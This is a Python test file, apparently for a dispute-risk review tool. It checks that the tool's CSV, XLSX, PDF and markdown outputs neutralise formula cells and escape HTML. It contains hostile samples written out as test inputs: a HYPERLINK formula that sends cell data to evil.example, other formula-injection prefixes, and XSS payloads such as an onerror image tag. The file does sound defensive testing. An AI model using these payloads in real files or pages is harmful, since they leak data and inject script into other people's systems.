"""Files meant for people neutralise formula cells (OWASP CSV injection), XLSX cells are never
formulas, PDF text is escaped, and the dashboard renders no HTML from data."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from models.review import build_review, ranking_frame
from security.audit import AuditLog, export_entries
from security.exports import neutralise_cell, neutralise_frame
from tests.fixtures_tables import tiny_tables
from tests.run_fixtures import TABLE_AS_OF, TABLE_SCORES
from ui.components import md_text
from ui.exports import csv_bytes, xlsx_bytes
from ui.i18n import set_language
from ui.review_export import review_pdf, review_xlsx

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_cells_starting_a_formula_get_a_quote(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["张伟", "D-R1", "", " =1", "a=1", 5, -5, -2.5, None])
def test_other_cells_are_left_alone(value):
    assert neutralise_cell(value) == value


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "dispute_id": HOSTILE,
            "probability": [0.5, -0.25, 0.1, 0.2, 0.3, 0.4, np.nan],
            "rank": np.arange(-3, 4),
            "at": pd.Timestamp("2025-11-20 08:00"),
            "note": ["ok", None, "x\x00y", "多\n行", "a", "b", "c"],
        }
    ).rename(columns={"note": "=note"})


def test_csv_download_neutralises_text_and_keeps_numbers():
    rows = list(csv.reader(io.StringIO(csv_bytes(hostile_frame()).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["dispute_id", "probability", "rank", "at", "'=note"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["0.5", "-0.25", "0.1", "0.2", "0.3", "0.4", ""]
    assert [r[2] for r in rows[1:]] == ["-3", "-2", "-1", "0", "1", "2", "3"]


def test_xlsx_download_has_no_formula_and_numbers_stay_numbers():
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes({"ranking": hostile_frame(), "x" * 40: hostile_frame()}))
    )
    assert book.sheetnames == ["ranking", "x" * 31]
    sheet = book["ranking"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # XML turns a carriage return into a line feed; the cell still starts with the quote.
    assert [c.value for c in sheet["A"]][1:] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert sheet["E1"].value == "'=note"
    assert [c.value for c in sheet["B"]][1:] == [0.5, -0.25, 0.1, 0.2, 0.3, 0.4, None]
    assert [c.value for c in sheet["C"]][1:] == [-3, -2, -1, 0, 1, 2, 3]
    assert sheet["D2"].value == datetime(2025, 11, 20, 8, 0)
    assert sheet["E4"].value == "x\ufffdy"  # a control character Excel cannot hold


def test_neutralise_frame_keeps_numeric_and_date_dtypes():
    out = neutralise_frame(hostile_frame())
    assert str(out["probability"].dtype) == "float64" and str(out["rank"].dtype) == "int64"
    assert out["at"].dtype.kind == "M" and out.columns[-1] == "'=note"


def test_audit_export_neutralises_a_username_typed_at_sign_in(tmp_path):
    log = AuditLog(tmp_path / "audit.log")
    log.record(
        HYPERLINK,
        "",
        "login",
        f"user:{HYPERLINK}",
        detail={"ok": False},
        now=datetime(2025, 1, 1, tzinfo=UTC),
    )
    out = tmp_path / "audit.csv"
    assert export_entries(log.path, out) == 1
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert row["user"] == "'" + HYPERLINK and row["object"] == "user:" + HYPERLINK
    assert row["seq"] == "1"


def hostile_review():
    tables = tiny_tables()
    scores = pd.DataFrame(TABLE_SCORES, columns=["dispute_id", "probability", "tier", "top_factors"])
    names = {
        "D-R3": '<img src=x onerror="alert(1)">',
        "D-C5": '<a href="http://evil.example/">点此</a>',
        "D-R2": HYPERLINK,
    }
    scores["dispute_id"] = scores["dispute_id"].map(names)
    disputes = tables.disputes.assign(dispute_id=tables.disputes["dispute_id"].replace(names))
    tables = tables.__class__(**{**dict(tables.items()), "disputes": disputes})
    ranking = ranking_frame(scores.assign(as_of=TABLE_AS_OF, rank=range(1, 4), source_refs=""), tables)
    return build_review(tables, ranking)


def pdf_text(pdf: bytes) -> str:
    """The text drawn in a PDF, read back through its fonts' ToUnicode maps (pypdf)."""
    from pypdf import PdfReader

    return "\n".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(pdf)).pages)


def embedded_fonts(pdf: bytes) -> set[str]:
    """Base names of the fonts whose program is embedded in the PDF (TrueType FontFile2)."""
    from pypdf import PdfReader

    found = set()
    for page in PdfReader(io.BytesIO(pdf)).pages:
        for font in (page["/Resources"].get("/Font") or {}).values():
            font = font.get_object()
            descriptor = font.get("/FontDescriptor")
            if descriptor is not None and "/FontFile2" in descriptor.get_object():
                found.add(str(font["/BaseFont"]))
    return found


def test_review_pdf_escapes_markup_and_makes_no_links():
    set_language("zh")
    review = hostile_review()
    assert len(review.top_risk) == 3
    pdf = review_pdf(review, "月度研判 <b>2025-04</b>")
    assert pdf.startswith(b"%PDF")
    assert b"/URI" not in pdf and b"/Link" not in pdf and b"/Subtype /Image" not in pdf
    drawn = pdf_text(pdf)
    assert any("WenQuanYiMicroHei" in name for name in embedded_fonts(pdf))  # the Chinese font travels along
    assert "审核签发" in drawn  # the sign-off block ends the review
    flat = re.sub(r"\s", "", drawn)  # table cells wrap their text over lines
    assert "<imgsrc=xonerror=" in flat and '<ahref="http://evil.example/">点此</a>' in flat
    assert "<b>2025-04</b>" in drawn
    book = openpyxl.load_workbook(io.BytesIO(review_xlsx(review)))
    values = [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
    assert "'" + HYPERLINK in values
    assert not [c for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]


def test_markdown_text_from_data_renders_as_typed():
    assert md_text("![x](http://evil.example/t.png)") == r"\!\[x\]\(http\:\/\/evil\.example\/t\.png\)"
    assert md_text("<img src=x onerror=alert(1)>") == r"\<img src\=x onerror\=alert\(1\)\>"
    assert md_text(":red[危险] $x$\n# 标题") == r"\:red\[危险\] \$x\$ \# 标题"
    assert md_text(None) == ""


def test_no_html_is_rendered_from_the_dashboard():
    sources = [ROOT / "app.py", *sorted((ROOT / "ui").rglob("*.py"))]
    offenders = [
        str(p.relative_to(ROOT)) for p in sources if "unsafe_allow_html=True" in p.read_text(encoding="utf-8")
    ]
    assert offenders == []


def test_the_review_workbook_keeps_numbers_names_teams_and_freezes_its_header():
    set_language("zh")
    review = hostile_review()
    who = pd.DataFrame(
        {"dispute_id": review.top_risk["dispute_id"], "tier": ["red", "red", "green"],
         "model_tier": review.top_risk["tier"], "decided_by": ["", "commander", ""], "decided_at": [None] * 3,
         "decision_reason": ["", "扬言报复", ""], "team": ["责任领导 张三；网格员 李四", "责任领导 王五", ""]}
    )  # fmt: skip
    book = openpyxl.load_workbook(io.BytesIO(review_xlsx(review, who)))
    sheet = book["高风险纠纷清单"]
    header = [c.value for c in sheet[1]]
    assert {"现行等级", "模型等级", "决定人", "多包一团队", "转刑风险概率"} <= set(header)
    second = dict(zip(header, [c for c in sheet[3]], strict=True))
    assert second["现行等级"].value == "红色" and second["模型等级"].value == "橙色"
    assert second["多包一团队"].value == "责任领导 王五"
    probability = second["转刑风险概率"]
    assert isinstance(probability.value, float) and probability.number_format == "0.0%"
    assert isinstance(second["排名"].value, int)
    assert sheet.freeze_panes == "A2" and sheet[1][0].font.bold
    assert sheet.column_dimensions["B"].width >= 10  # fitted to the ids, not Excel's default
    indicators = book["指标"]
    assert all(isinstance(c.value, int | float) for c in indicators["B"][1:] if c.value is not None)


def test_the_review_pdf_names_each_case_team():
    set_language("zh")
    review = hostile_review()
    who = pd.DataFrame({"dispute_id": review.top_risk["dispute_id"], "team": ["责任领导 张三", "", ""]})
    assert "责任领导张三" in re.sub(r"\s", "", pdf_text(review_pdf(review, "月度研判", who)))
